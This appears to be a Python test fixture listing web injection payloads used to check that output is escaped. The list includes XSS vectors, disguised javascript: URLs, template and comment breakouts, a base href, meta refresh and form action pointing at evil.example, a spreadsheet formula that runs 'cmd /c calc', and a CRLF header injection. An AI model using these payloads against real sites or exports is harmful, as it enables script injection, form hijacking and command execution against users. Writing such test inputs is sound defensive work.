"""What pages, feeds and people try: each makes an element, an attribute, a link or a file that it must not."""

CANARY = "<xss-canary onclick=alert(1)>"
PAYLOADS = {
    "script": f"<script>alert(1)</script>{CANARY}",
    "quotes": f"\"'><img src=x onerror=alert(1)>{CANARY}",
    "attributes": "\" autofocus onfocus=alert(1) x=\" ' onmouseover='alert(1)' x='",
    "svg": f"<svg/onload=alert(1)>{CANARY}<math><mi//xlink:href=data:x,1>",
    "javascript": f"javascript:alert(1)//{CANARY}",
    "javascript in disguise": " jAvA\tsCript:alert(1)//",
    "data": f"data:text/html,<script>alert(1)</script>{CANARY}",
    "cdata": f"]]><script>alert(1)</script>{CANARY}<![CDATA[",
    "comment": f"--><script>alert(1)</script>{CANARY}<!--",
    "raw text": f"</title></textarea></style></script></pre></template><script>alert(1)</script>{CANARY}",
    "encoded": "&lt;script&gt;alert(1)&lt;/script&gt;&lt;xss-canary&gt;&#60;xss-canary&#62;",
    "encoded twice": "&amp;lt;xss-canary&amp;gt;%3Cxss-canary%3E\\u003cxss-canary\\u003e",
    "template": f"{{{{ 7|add:7 }}}}{{% debug %}}{{% load static %}}{CANARY}",
    "document": f"<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.example>{CANARY}",
    "refresh": f'<meta http-equiv="refresh" content="0;url=//evil.example"><form action=//evil.example>{CANARY}',
    "formula": "=cmd|'/c calc'!A1",
    "formula behind a tab": "\t@SUM(1+1)",
    "no XML": f"a\x0b\x1b[31m\x7f\x85\ufffe\uffff{CANARY}\u2028\u2029\u202e",
    "header": f"a\r\nSet-Cookie: a=b\r\n\r\n{CANARY}",
}
